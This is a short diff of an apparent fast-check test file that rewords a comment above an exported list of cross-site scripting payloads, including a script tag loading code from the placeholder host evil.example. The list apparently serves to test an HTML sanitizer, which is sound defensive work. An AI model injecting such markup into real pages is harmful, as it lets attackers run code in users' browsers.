@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 
-/** Markup that runs something where it is let through: what public collections hold, one of each kind. */
+/** Markup that runs code where it is not removed: what public collections hold, one of each kind. */
 export const attacks = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
